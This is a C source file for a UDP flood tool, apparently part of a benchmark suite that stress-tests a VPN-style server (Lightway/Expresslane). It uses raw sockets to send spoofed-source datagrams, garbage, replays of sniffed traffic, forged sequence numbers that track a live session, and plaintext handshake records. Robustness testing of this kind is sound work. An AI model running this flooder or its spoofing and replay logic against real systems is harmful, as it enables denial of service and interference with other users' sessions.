// Floods a UDP port from addresses that are not its own, as fast as the machine allows; started by bench/attack.ts in the client's namespace.
//
//     flood KIND DEVICE ADDRESS PORT AIM SECONDS SUMS [FILE]
//
// hello     the datagram in FILE, from random addresses of 198.18.0.0/15
// garbage   100 random bytes, from such addresses
// replay    datagrams that were seen to leave through DEVICE for PORT, once more, from the address they came from
// forged    the same, with a number 2^24 further and other bytes behind it: who does so has seen the session, and does not follow it
// near      the same, 2^21 further, which is a number that might be the next one
// follow    the same, with one of the thousand numbers behind the latest that leaves meanwhile: who does so sees the session as it goes by
// plain     handshake records in plaintext behind the header of such datagrams, from the address they came from; every other one is a ClientHello
// unknown   Expresslane packets of 100 bytes with random ids, from random addresses
//
// They go to ADDRESS and AIM, which is PORT or one beside it. SUMS 0: without a checksum, of the lengths that come; a device that joins what comes into
// trains (GRO) leaves those alone. SUMS 1: with one, of one length, and one IP identification with DF, so that it can. Prints how many left.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <endian.h>
#include <linux/filter.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

enum { vector = 64, most = 1500, headers = 28, kept = 48, lightway = 16 };

static uint64_t state = 0x9e3779b97f4a7c15;
static uint64_t next_random(void) {
  state ^= state << 13, state ^= state >> 7, state ^= state << 17;
  return state;
}

static double now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return time.tv_sec + time.tv_nsec * 1e-9;
}

static void die(const char* what) {
  perror(what);
  exit(1);
}

static void put16(uint8_t* at, uint16_t value) { at[0] = value >> 8, at[1] = value & 255; }

// Of the pseudo-header, the UDP header and what follows it. A sum of 0 is written as all ones: 0 means none.
static void sum_up(uint8_t* packet, size_t length) {
  uint8_t* udp = packet + 20;
  put16(udp + 6, 0);
  uint64_t sum = 17 + (length - 20);
  for (size_t at = 12; at + 1 < length; at += 2) sum += (uint32_t)packet[at] << 8 | packet[at + 1];
  if (length & 1) sum += (uint32_t)packet[length - 1] << 8;
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  const uint16_t folded = ~sum;
  put16(udp + 6, folded ? folded : 0xffff);
}

// A handshake message of a type, 1 for ClientHello, in a record without protection (RFC 9147 §4) behind a Lightway header. @returns bytes of the whole packet
static size_t write_plain(uint8_t* packet, uint8_t type) {
  static const uint8_t record[] = {22, 0xfe, 0xfd, 0, 0, 0, 0, 0, 0, 0, 9, 0, 80};
  uint8_t* body = packet + headers + lightway;
  packet[headers + 5] = 0;  // not by the Expresslane
  memcpy(body, record, sizeof record);
  memset(body + sizeof record, 0, 80);
  body[sizeof record] = type;
  const size_t length = headers + lightway + sizeof record + 80;
  put16(packet + 24, length - 20);
  return length;
}

// IP and UDP header; the kernel fills in lengths and checksum of IP.
static void write_headers(uint8_t* packet, size_t payload, uint32_t source, uint16_t from, uint32_t destination, uint16_t aim) {
  memset(packet, 0, headers);
  packet[0] = 0x45, packet[8] = 64, packet[9] = 17;
  memcpy(packet + 12, &source, 4), memcpy(packet + 16, &destination, 4);
  put16(packet + 20, from), put16(packet + 22, aim), put16(packet + 24, payload + 8);
}

static int open_tap(const char* device) {
  const int tap = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_ALL));
  struct sockaddr_ll where = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL), .sll_ifindex = (int)if_nametoindex(device)};
  if (tap < 0 || bind(tap, (struct sockaddr*)&where, sizeof where)) die("tap");
  return tap;
}

static int leaves_for(const uint8_t* packet, uint32_t address, uint16_t port) {
  return packet[0] == 0x45 && packet[9] == 17 && !memcmp(packet + 16, &address, 4) && packet[22] == port >> 8 && packet[23] == (port & 255);
}

// The highest number that has left by now; of trains that of their first datagram.
static uint64_t follow(int tap, uint32_t address, uint16_t port, uint64_t latest) {
  uint8_t packet[headers + lightway + 8];
  for (int i = 0; i < 64 && recv(tap, packet, sizeof packet, MSG_DONTWAIT) == (ssize_t)sizeof packet; i++) {
    uint64_t number;
    memcpy(&number, packet + headers + lightway, 8);
    if (leaves_for(packet, address, port) && packet[headers + 5] != 0 && be64toh(number) > latest && be64toh(number) < latest + (1 << 20)) latest = be64toh(number);
  }
  return latest;
}

// Whole single datagrams that leave through the device for the port. A flow of acknowledgements or pings gives enough.
static int listen_for(const char* device, uint32_t address, uint16_t port, int equal, uint8_t packets[kept][most], size_t lengths[kept]) {
  const int tap = open_tap(device);
  struct timeval patience = {.tv_usec = 200000};
  setsockopt(tap, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
  int found = 0;
  uint8_t packet[65536];
  for (const double end = now() + 2; found < kept && now() < end;) {
    const ssize_t length = recv(tap, packet, sizeof packet, MSG_TRUNC);
    if (length < headers + lightway + 24 || length > most || !leaves_for(packet, address, port)) continue;
    if (equal && found > 0 && (size_t)length != lengths[0]) continue;
    memcpy(packets[found], packet, length);
    lengths[found++] = length;
  }
  close(tap);
  return found;
}

int main(int argc, char** argv) {
  if (argc < 8) return fprintf(stderr, "flood KIND DEVICE ADDRESS PORT AIM SECONDS SUMS [FILE]\n"), 2;
  const char* kind = argv[1];
  const uint32_t address = inet_addr(argv[3]);
  const uint16_t port = atoi(argv[4]), aim = atoi(argv[5]);
  const double seconds = atof(argv[6]);
  const int sums = atoi(argv[7]);
  const int unknown = !strcmp(kind, "unknown"), plain = !strcmp(kind, "plain");
  const int spoofed = !strcmp(kind, "hello") || !strcmp(kind, "garbage") || unknown, near = !strcmp(kind, "near"), follows = !strcmp(kind, "follow");
  const int forged = near || follows || !strcmp(kind, "forged");
  static uint8_t packets[kept][most], out[vector][most];
  size_t lengths[kept];
  int count = 1;
  if (spoofed) {
    size_t payload = 100;
    if (!strcmp(kind, "hello")) {
      FILE* file = argc > 8 ? fopen(argv[8], "r") : NULL;
      if (!file || (payload = fread(packets[0] + headers, 1, most - headers, file)) == 0) die("the hello");
    }
    lengths[0] = headers + payload;
  } else if ((count = listen_for(argv[2], address, port, sums, packets, lengths)) == 0) {
    return fprintf(stderr, "nothing left through %s\n", argv[2]), 1;
  }

  const int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (raw < 0) die("raw socket");
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = {address}};
  struct mmsghdr messages[vector];
  struct iovec parts[vector];
  memset(messages, 0, sizeof messages);
  for (int i = 0; i < vector; i++) {
    parts[i].iov_base = out[i];
    messages[i].msg_hdr = (struct msghdr){.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &parts[i], .msg_iovlen = 1};
  }
  uint64_t sent = 0, latest = 0;
  const int tap = follows ? open_tap(argv[2]) : -1;
  if (follows) {
    // not what this program sends itself, which has no checksum
    struct sock_filter code[] = {{BPF_LD | BPF_H | BPF_ABS, 0, 0, 26}, {BPF_JMP | BPF_JEQ | BPF_K, 1, 0, 0}, {BPF_RET | BPF_K, 0, 0, 65535}, {BPF_RET | BPF_K, 0, 0, 0}};
    struct sock_fprog foreign = {sizeof code / sizeof code[0], code};
    if (setsockopt(tap, SOL_SOCKET, SO_ATTACH_FILTER, &foreign, sizeof foreign)) die("tap");
    memcpy(&latest, packets[count - 1] + headers + lightway, 8);
    latest = be64toh(latest);
  }
  for (const double end = now() + seconds; now() < end;) {
    if (follows) latest = follow(tap, address, port, latest);
    for (int i = 0; i < vector; i++) {
      const int which = (int)(next_random() % count);
      size_t length = lengths[which];
      memcpy(out[i], packets[which], length);
      if (plain) length = write_plain(out[i], 1 + (i & 1));
      if (spoofed) {
        const uint64_t random = next_random();
        write_headers(out[i], length - headers, htonl(0xc6120000 | (random & 0x1ffff)), 1024 + (random >> 20 & 0x7fff), address, aim);
        for (size_t at = headers; kind[0] == 'g' && at + 8 <= length; at += 8) memcpy(out[i] + at, (uint64_t[]){next_random()}, 8);
        if (unknown) {
          static const uint8_t header[] = {0x48, 0x65, 1, 3, 0, 1, 0, 0};
          memcpy(out[i] + headers, header, sizeof header);
          memcpy(out[i] + headers + sizeof header, (uint64_t[]){next_random()}, 8);
        }
      } else {
        put16(out[i] + 22, aim), put16(out[i] + 26, 0);
        if (forged) {
          uint8_t* counter = out[i] + headers + lightway;
          uint64_t number;
          memcpy(&number, counter, 8);
          number = htobe64(follows ? latest + 64 + (next_random() & 1023) : be64toh(number) + (near ? 1 << 21 : 1 << 24));  // no window has it
          memcpy(counter, &number, 8);
          memcpy(out[i] + length - 8, (uint64_t[]){next_random()}, 8);
        }
      }
      if (sums) {
        put16(out[i] + 4, 1), put16(out[i] + 6, 0x4000);
        sum_up(out[i], length);
      }
      parts[i].iov_len = length;
    }
    const int done = sendmmsg(raw, messages, vector, 0);
    if (done > 0) sent += done;
  }
  printf("%llu\n", (unsigned long long)sent);
  return 0;
}
